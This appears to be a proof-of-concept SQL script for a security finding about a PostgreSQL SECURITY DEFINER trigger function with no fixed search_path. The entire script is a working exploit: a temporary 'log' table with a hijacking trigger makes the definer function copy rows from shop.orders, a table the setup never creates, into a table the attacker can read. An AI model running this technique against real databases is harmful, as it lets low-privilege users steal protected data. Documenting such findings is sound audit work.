-- finding: definer-search-path function shop.note()
SET ROLE shop_owner;
CREATE TABLE shop.log (item text);
CREATE TABLE shop.sales (year int, item text, owner text NOT NULL DEFAULT current_user) PARTITION BY LIST (year);
CREATE TABLE shop.sales_2024 PARTITION OF shop.sales FOR VALUES IN (2024);
ALTER TABLE shop.sales ENABLE ROW LEVEL SECURITY;
CREATE POLICY own ON shop.sales USING (owner = current_user);
GRANT INSERT ON shop.sales TO order_users;
CREATE FUNCTION shop.note() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
  AS $$ BEGIN INSERT INTO log VALUES (NEW.item); RETURN NEW; END $$;
CREATE TRIGGER note AFTER INSERT ON shop.sales_2024 FOR EACH ROW EXECUTE FUNCTION shop.note();
RESET ROLE;
-- leak as alice@example.com
CREATE TEMPORARY TABLE taken (item text);
GRANT INSERT ON pg_temp.taken TO PUBLIC;
CREATE FUNCTION pg_temp.take() RETURNS trigger LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO pg_temp.taken SELECT item FROM shop.orders; RETURN NEW; END $$;
CREATE TEMPORARY TABLE log (item text); GRANT INSERT ON pg_temp.log TO PUBLIC;
CREATE TRIGGER take BEFORE INSERT ON log FOR EACH ROW EXECUTE FUNCTION pg_temp.take();
SET search_path = shop;
INSERT INTO shop.sales VALUES (2024, 'bait');
SELECT item FROM pg_temp.taken WHERE item = 'secret';
